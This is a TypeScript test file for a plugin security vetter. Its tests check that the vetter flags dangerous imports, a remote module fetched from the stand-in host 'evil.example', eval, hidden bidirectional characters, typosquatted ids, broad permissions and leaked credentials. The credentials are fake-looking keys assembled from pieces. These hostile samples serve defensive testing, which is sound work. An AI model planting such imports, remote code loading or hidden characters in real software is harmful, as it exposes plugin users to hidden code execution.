import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { findManifest, readManifest } from "../../src/manifest/index.ts";
import { openArchive, openSource, packPlugin, preparePlugin } from "../../src/registry/index.ts";
import { type Finding, passes, type VetOptions, vetPlugin } from "../../src/vet/index.ts";
import { looksLike } from "../../src/vet/look-alike.ts";
import { pluginFolder } from "../registry/plugin-folder.ts";

const ports = { findManifest, readManifest };

interface ManifestParts {
  readonly id?: string;
  readonly permissions?: string;
  readonly tools?: string;
}

const manifest = ({ id = "demo", permissions = "{}", tools = "[]" }: ManifestParts = {}): string =>
  `id: ${id}\nname: Demo\nversion: 1.0.0\ndescription: A demo.\nentry: plugin.ts\ncontributes: { tools: ${tools} }\npermissions: ${permissions}\nconfig_schema: {}\n`;

async function vet(files: Readonly<Record<string, string>>, options?: VetOptions): Promise<readonly Finding[]> {
  const folder = pluginFolder({ "plugin.yml": manifest(), "plugin.ts": "export default {};", ...files });
  return vetPlugin({ open: () => openSource(folder), prepare: (source) => preparePlugin(source, ports) }, options);
}

/** Put together here, so that no scanner takes this file for a leak. */
const fake = (...parts: readonly string[]): string => parts.join("");

describe("vetPlugin", () => {
  it("finds nothing in a plugin that keeps to the rules", async () => {
    expect(await vet({})).toEqual([]);
  });

  it.each([
    ["child_process", 'import "child_process"; export default {};'],
    ["vm, after other lines", '\n\nimport vm from "node:vm"; export default { vm };'],
    ["worker_threads by require", 'const t = require("worker_threads"); export default { t };'],
    ["a remote module", 'import "https://evil.example/x.js"; export default {};'],
    ["a native addon", 'import "./addon.node"; export default {};'],
  ])("refuses %s, with file and line [S3-87]", async (_, text) => {
    const [finding] = await vet({ "plugin.ts": text });
    const line = text.split("\n").length;
    expect(finding).toMatchObject({ rule: "imports", severity: "error", file: "plugin.ts", line });
    expect(finding?.fix).toBeTruthy();
  });

  it.each([
    ["eval", "export default {\n f: (x: string) => eval(x) };", 2],
    ["Function", "export default {\n f: () => new Function('1') };", 2],
    ["Deno", "export default { f: () => Deno.env };", 1],
    ["a computed import", "export default { f: (x: string) => import(x) };", 1],
  ])("flags %s, with file and line", async (_, text, line) => {
    expect(await vet({ "plugin.ts": text })).toMatchObject([
      { rule: "imports", severity: "warning", file: "plugin.ts", line },
    ]);
  });

  it("tells every problem of a manifest, with its path", async () => {
    const findings = await vet({ "plugin.yml": `${manifest()}extra: 1\nengines: { sallyport: nonsense }\n` });
    expect(findings.length).toBeGreaterThan(1);
    for (const finding of findings)
      expect(finding).toMatchObject({ rule: "manifest", severity: "error", file: "plugin.yml" });
    expect(findings.map(({ message }) => message).join()).toContain("engines.sallyport: ");
  });

  it("tells an unsafe source and one that is too large as findings", async () => {
    expect(await vet({ ".sallyport/x": "" })).toMatchObject([
      { rule: "source", severity: "error", file: ".sallyport/x" },
    ]);
    expect(await vet({ "a\u202eb.txt": "" })).toMatchObject([{ rule: "source", severity: "error" }]);
  });

  it("leaves what is no plugin's fault as it is", async () => {
    const open = () => openSource("/nowhere/at/all");
    await expect(vetPlugin({ open, prepare: (source) => preparePlugin(source, ports) })).rejects.toMatchObject({
      code: "not_found",
    });
  });
});

describe("secrets that were left in", () => {
  it.each([
    ["AWS", fake("AKIA", "QWERTYUIOPASDFGH")],
    ["GitHub", fake("ghp_", "a1B2".repeat(9))],
    ["Slack", fake("xoxb-", "123456789012-abcdefABCDEF")],
    ["Stripe", fake("sk_live_", "4eC39HqLyjWDarjtT1zdp7dc")],
    ["Anthropic", fake("sk-ant-", "api03-", "aB3".repeat(30))],
    ["OpenAI", fake("sk-", "proj-", "aB3".repeat(10), "T3Blbk", "FJ", "aB3".repeat(10))],
    ["Google", fake("AIza", "SyA1234567890abcdefghijklmnopqrstuv")],
    ["npm", fake("npm_", "a1B2".repeat(9))],
    ["a private key", fake("-----BEGIN ", "PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0")],
  ])("finds one of %s by its form, with its line, and never shows it", async (_, secret) => {
    const findings = await vet({ "notes.md": `# Notes\n\nkey: ${secret}\n` });
    expect(findings).toMatchObject([{ rule: "secret", severity: "error", file: "notes.md", line: 3 }]);
    expect(JSON.stringify(findings)).not.toContain(secret.slice(0, 20));
  });

  it("finds one in code once, though the bundle has it again, and one that only a dependency has", async () => {
    const own = fake("ghp_", "a1B2".repeat(9));
    const theirs = fake("ghp_", "c3D4".repeat(9));
    const findings = await vet({
      "plugin.ts": `import dep from "dep"; export default { key: "${own}", dep };`,
      "node_modules/dep/index.js": `export default "${theirs}";`,
    });
    expect(findings.map(({ file }) => file)).toEqual(["plugin.ts", ".sallyport/bundle.mjs"]);
  });

  it("flags what is called a secret and looks random, and lets examples be", async () => {
    expect(await vet({ "a.ts": 'const api_key = "q8Zr2Lw0vXb71KpTn5Ys";' })).toMatchObject([
      { rule: "secret", severity: "warning", line: 1 },
    ]);
    expect(
      await vet({
        "a.ts":
          'const password = "your-password-goes-here"; const token = "aaaaaaaaaaaaaaaaaaaa1"; const k = "AKIAIOSFODNN7EXAMPLE";',
      }),
    ).toEqual([]);
  });

  it("flags files that usually hold secrets", async () => {
    expect((await vet({ ".env": "A=1", id_rsa: "x", "certs/a.pem": "x" })).map(({ file }) => file).toSorted()).toEqual([
      ".env",
      "certs/a.pem",
      "id_rsa",
    ]);
  });

  it("says how much it did not search", async () => {
    expect(await vet({ "big.txt": "x".repeat(1000) }, { scanBytes: 999 })).toMatchObject([
      { rule: "secret", severity: "note" },
    ]);
  });
});

describe("what people do not see", () => {
  it("refuses characters that turn the text, and flags invisible ones, in code", async () => {
    expect(await vet({ "a.ts": "// fine\nconst x = '\u202e';" })).toMatchObject([
      { rule: "hidden-text", severity: "error", file: "a.ts", line: 2 },
    ]);
    expect(await vet({ "a.ts": "const x\u200b = 1;" })).toMatchObject([
      { rule: "hidden-text", severity: "warning", line: 1 },
    ]);
    expect(await vet({ "README.md": "\u202e" })).toEqual([]);
  });

  it("flags native code and WebAssembly by their bytes, whatever they are called", async () => {
    const findings = await vet({ "data.txt": "\x7fELF", "image.png": "\0asm\x01", "addon.node": "x" });
    expect(findings.map(({ rule, severity, file }) => [rule, severity, file])).toEqual(
      expect.arrayContaining([
        ["native", "warning", "data.txt"],
        ["native", "warning", "image.png"],
        ["native", "warning", "addon.node"],
      ]),
    );
  });

  it("says that a bundle is too large to be read", async () => {
    expect(await vet({ "plugin.ts": `export default { text: "${"x".repeat(1_100_000)}" };` })).toMatchObject([
      { rule: "size", severity: "warning", file: ".sallyport/bundle.mjs" },
    ]);
  });
});

describe("what a manifest asks for", () => {
  const permission = async (permissions: string): Promise<readonly Finding[]> =>
    (await vet({ "plugin.yml": manifest({ permissions }) })).filter(({ severity }) => severity !== "note");

  it.each([
    ["every host below", '{ network: [{ host: "*.example.com", reason: x }] }'],
    ["is not encrypted", "{ network: [{ host: a.example.com, scheme: http, reason: x }] }"],
    ["names no scope", "{ network: true }"],
    ["reaches the whole disk", "{ filesystem: [{ path: /, mode: r, reason: x }] }"],
    ["writes outside", "{ filesystem: [{ path: /srv, mode: rw, reason: x }] }"],
    ["critical risk", "{ secrets: [{ name: KEY, expose: true, reason: x }] }"],
  ])("flags what %s", async (text, permissions) => {
    const findings = await permission(permissions);
    expect(findings).toMatchObject([{ rule: "permission", severity: "warning", file: "plugin.yml" }]);
    expect(findings[0]?.message).toContain(text);
  });

  it.each([
    ["any options", '{ exec: [{ command: sort, args: ["-**"], reason: x }] }'],
    ["any number of arguments", '{ exec: [{ command: sort, args: [-u, "**"], reason: x }] }'],
  ])("flags a command of which the plugin chooses %s, beside the risk", async (text, permissions) => {
    const messages = (await permission(permissions)).map(({ message }) => message);
    expect(messages).toEqual([expect.stringContaining(text), expect.stringContaining("critical risk")]);
    expect(await permission('{ exec: [{ command: sort, args: [-u, "*"], reason: x }] }')).toHaveLength(1);
  });

  it("flags nothing of a narrow one, and notes what has no reason", async () => {
    const narrow = "{ network: [{ host: a.example.com, methods: [GET], paths: [/v1/*] }] }";
    expect(await vet({ "plugin.yml": manifest({ permissions: narrow }) })).toMatchObject([
      { rule: "permission", severity: "note" },
    ]);
  });

  it("notes tools whose answers or inputs are open", async () => {
    const tools = "[{ name: t, description: d, effect: read, input_schema: { type: object } }]";
    expect(await vet({ "plugin.yml": manifest({ tools }) })).toMatchObject([
      { rule: "schema", severity: "note" },
      { rule: "schema", severity: "note" },
    ]);
  });
});

describe("ids that look alike", () => {
  it.each([
    ["weather", "vveather"],
    ["weather", "weahter"],
    ["weather", "weathers"],
    ["weather", "wether"],
    ["weather", "wea-ther"],
    ["weather", "acme/weather"],
    ["modern", "modem"],
  ])("takes %s and %s for one another, either way round", (a, b) => {
    expect(looksLike(a, b)).toBe(true);
    expect(looksLike(b, a)).toBe(true);
  });

  it("tells apart what people tell apart, and never an id from itself", () => {
    for (const [a, b] of [
      ["weather", "whether-or-not"],
      ["geo", "neo"],
      ["acme/weather", "acme/maps"],
    ] as const)
      expect(looksLike(a, b)).toBe(false);
    fc.assert(fc.property(fc.stringMatching(/^[a-z][a-z0-9-]{0,20}$/), (id) => !looksLike(id, id)));
  });

  it("flags one that looks like a known id", async () => {
    expect(await vet({ "plugin.yml": manifest({ id: "weahter" }) }, { knownIds: ["weather", "maps"] })).toMatchObject([
      { rule: "look-alike", severity: "warning", file: "plugin.yml" },
    ]);
  });
});

describe("presets", () => {
  const of = (severity: Finding["severity"]): Finding => ({
    rule: "size",
    severity,
    file: "",
    line: null,
    message: "",
    fix: "",
  });
  it("fail at errors, and strict at warnings too", () => {
    expect(passes([of("note"), of("warning")], "default")).toBe(true);
    expect(passes([of("note"), of("error")], "default")).toBe(false);
    expect(passes([of("note")], "strict")).toBe(true);
    expect(passes([of("warning")], "strict")).toBe(false);
  });

  it("look at an archive as at the folder that it was packed from", async () => {
    const folder = pluginFolder({ "plugin.yml": manifest(), "plugin.ts": "export default { f: () => eval('1') };" });
    const { archive } = await packPlugin(await openSource(folder), ports);
    const findings = await vetPlugin({
      open: () => openArchive(archive),
      prepare: (source) => preparePlugin(source, ports),
    });
    expect(findings).toMatchObject([{ rule: "imports", severity: "warning", file: ".sallyport/bundle.mjs" }]);
  });
});
